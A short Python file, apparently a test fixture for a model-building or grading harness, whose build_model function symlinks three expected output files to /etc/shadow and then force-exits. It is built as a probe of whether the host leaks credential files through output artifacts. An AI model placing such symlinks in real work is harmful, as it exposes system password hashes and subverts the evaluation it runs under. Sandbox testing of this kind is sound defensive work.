"""Results that are links to files of the host."""

import os


def build_model(task):
    for name in ("graph.pb", "network.json", "history.json"):
        os.symlink("/etc/shadow", f"/out/{name}")
    os._exit(0)
